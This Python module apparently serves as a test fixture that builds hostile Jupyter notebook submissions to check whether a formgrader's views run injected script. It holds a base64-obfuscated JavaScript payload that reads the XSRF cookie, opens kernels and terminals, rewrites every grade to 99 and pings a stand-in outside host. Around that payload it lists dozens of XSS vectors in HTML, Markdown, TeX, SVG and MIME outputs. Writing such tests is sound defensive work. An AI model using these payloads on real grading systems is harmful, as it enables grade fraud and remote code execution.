"""Submissions that try to act in the browser of whoever looks at them.

Everything tries the same, :func:`attack`: it tells that it ran, gives itself all points through the
formgrader's own interface, starts a kernel and a terminal, and opens a dialog.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Collection

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

ELSEWHERE = "http://elsewhere.invalid"

_ATTACK = """(async () => {
  fetch('/hit/NAME'); new Image().src = 'ELSEWHERE/NAME';
  const xsrf = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
  const headers = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
  const send = (path, method, body) => fetch(path, {method, headers, body: JSON.stringify(body)});
  if (!top.asked) { top.asked = true; send('/api/kernels', 'POST', {}); send('/api/terminals', 'POST', {}); }
  const submission = location.pathname.split('/')[3];
  const grades = await (await fetch('/formgrader/api/grades?submission_id=' + submission)).json();
  for (const one of grades) await send('/formgrader/api/grade/' + one.id, 'PUT', {...one, manual_score: 99});
  alert('NAME');
})()"""


def attack(name: str) -> str:
    """A script, without double quotes, spaces and brackets that HTML, markdown or TeX would read."""
    script = _ATTACK.replace("NAME", name).replace("ELSEWHERE", ELSEWHERE)
    return f"eval(atob('{base64.b64encode(script.encode()).decode()}'))"


def html() -> dict[str, str]:
    """HTML that acts, each by its name."""

    def on(name: str, text: Callable[[str, str], str]) -> tuple[str, str]:
        return name, text(attack(name), f"{ELSEWHERE}/{name}")

    return dict(
        [
            on("script", lambda js, _: f"<script>{js}</script>"),
            on("script-not-closed", lambda js, _: f"<p>x</p><script>{js}"),
            on("module", lambda _, url: f'<script type="module" src="{url}"></script>'),
            on("onerror", lambda js, _: f'<img src="x" onerror="{js}">'),
            on("onload-svg", lambda js, _: f'<svg onload="{js}"><script>{js}</script></svg>'),
            on("animate", lambda js, _: f'<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>'),
            on("ontoggle", lambda js, _: f'<details open ontoggle="{js}">x</details>'),
            on("onfocus", lambda js, _: f'<input autofocus onfocus="{js}">'),
            on("onclick", lambda js, _: f'<p onclick="{js}" onmouseover="{js}">x</p>'),
            on("href-js", lambda js, _: f'<a href="javascript:{js}">x</a>'),
            on("href-js-entity", lambda js, _: f'<a href="&#106;ava&Tab;script:{js}">x</a>'),
            on("href-data", lambda js, _: f'<a href="data:text/html,<script>{js}</script>">x</a>'),
            on("link", lambda _, url: f'<a href="{url}" ping="{url}">x</a><a href="{url}">y</a>'),
            on("iframe-srcdoc", lambda js, _: f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>'),
            on("iframe-js", lambda js, _: f'<iframe src="javascript:{js}"></iframe>'),
            on("iframe", lambda _, url: f'<iframe src="{url}"></iframe>'),
            on("object", lambda _, url: f'<object data="{url}"></object><embed src="{url}">'),
            on("meta", lambda _, url: f'<meta http-equiv="refresh" content="0;url={url}">'),
            on("base", lambda _, url: f'<base href="{url}/">'),
            on("form", lambda js, url: f'<form action="{url}"><button>x</button></form>'
               f'<button formaction="javascript:{js}" form="f">y</button><form id="f"></form>'),
            on("style", lambda _, url: f"<style>@import '{url}'; body {{background: url({url})}}</style>"),
            on("inline-style", lambda _, url: f'<p style="background:url({url})">x</p>'),
            on("stylesheet", lambda _, url: f'<link rel="stylesheet" href="{url}">'),
            on("pictures", lambda _, url: f'<img src="{url}"><img srcset="{url} 2x"><video poster="{url}">'
               f'</video><picture><source srcset="{url}"><img src="{url}"></picture>'),
            on("bootstrap", lambda js, _: '<a data-toggle="tooltip" data-html="true"'
               f' title="<img src=x onerror={js}>" data-template="<img src=x onerror={js}>">x</a>'),
            on("clobber", lambda *_: '<form id="submission_id"></form><a id="base_url" href="x"></a>'
               '<input class="score" id="test_rate" value="99">'),
            on("mathml", lambda js, _: "<math><mtext><table><mglyph><style><!--</style>"
               f'<img title="--&gt;&lt;img src=x onerror={js}&gt;"></table></mtext></math>'),
            on("noscript", lambda js, _: '<noscript><p title="</noscript>'
               f'<img src=x onerror={js}>"></noscript>'),
            on("closes", lambda js, _: f"</div></div></div></body></html><script>{js}</script>"),
            on("blank-line", lambda js, _: f"<div>\n\n<script>{js}</script>\n\n[x](javascript:{js})\n\n"),
            on("template", lambda js, _: '<template shadowrootmode="open">'
               f'<img src=x onerror="{js}"></template>'),
        ]
    )  # fmt: skip


def markdown() -> dict[str, str]:
    """Markdown that acts, by its name."""
    return {
        "md-link": f"[x](javascript:{attack('md-link')})",
        "md-reference": f"[x][y]\n\n[y]: javascript:{attack('md-reference')}",
        "md-autolink": f"<javascript:{attack('md-autolink')}> <{ELSEWHERE}/md-autolink>",
        "md-picture": f"![x]({ELSEWHERE}/md-picture)",
        "md-attachment": "![x](attachment:x.svg)",
        "tex-href": rf"$\href{{javascript:{attack('tex-href')}}}{{x}}$",
        "tex-display": f"$$\n\\href{{javascript:{attack('tex-display')}}}{{x}}\n$$",
        "tex-in-html": rf"<b>$\href{{javascript:{attack('tex-in-html')}}}{{x}}$</b>",
        "tex-environment": rf"\begin{{a}}\href{{javascript:{attack('tex-environment')}}}{{x}}\end{{a}}",
    }


def displaying(tags: dict[str, str], marked: dict[str, str]) -> str:
    """Code whose outputs are these texts, and of every type that acts."""
    data: list[dict[str, object]] = [{"text/html": text} for text in tags.values()]
    data += [{"text/markdown": text} for text in (*tags.values(), *marked.values())]
    js = attack("svg")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script></svg>'
    data += [
        {"application/javascript": attack("javascript")},
        {"image/svg+xml": svg},
        {"text/latex": rf"$\href{{javascript:{attack('latex')}}}{{x}}$"},
        {"text/html": rf"<table><tr><td>$\href{{javascript:{attack('tex-cell')}}}{{x}}$</td></tr></table>"},
        {"text/vnd.mermaid": f"graph TD; a-->b; click a '{ELSEWHERE}/mermaid'"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
        {"application/pdf": "x"},
        {"image/png": f'x" onerror="{attack("png")}'},
        {'x/"><script>' + attack("type") + "</script>": "y"},
    ]
    return f"""
from IPython.display import display
for data in {data!r}:
    display(data, raw=True)
display({{"text/html": {html()["script"]!r}}}, metadata={{"text/html": {{"isolated": True}}}}, raw=True)
print({html()["script"]!r})
"""


def hostile(
    notebook: NotebookNode, answer: NotebookNode, written: NotebookNode, *, without: Collection[str] = ()
) -> NotebookNode:
    """Make a submission hostile: what its answer displays, its written answer, and cells of its own.

    `without` names what is left out, so that the others can be seen to act.
    """
    tags = {name: text for name, text in html().items() if name not in without}
    marked = {name: text for name, text in markdown().items() if name not in without}
    answer.source = displaying(tags, marked) + answer.source
    written.source = "\n\n".join([*marked.values(), *tags.values()])
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{attack("attachment")}</script></svg>'
    written.attachments = {"x.svg": {"image/svg+xml": svg}}
    notebook.cells += [new_markdown_cell(text) for text in (*marked.values(), *tags.values())]
    script = html()["script"]
    notebook.cells += [
        new_raw_cell(script, metadata={"raw_mimetype": "text/html"}),
        new_raw_cell(script),
        new_code_cell(script, metadata={"tags": ['"><script>'], "magics_language": script}),
    ]
    if (notebook.nbformat, notebook.nbformat_minor) < (4, 5):
        for cell in notebook.cells:
            cell.pop("id", None)
    notebook.metadata.update(
        title=script, widgets={"application/vnd.jupyter.widget-state+json": {"state": {}}}
    )
    return notebook
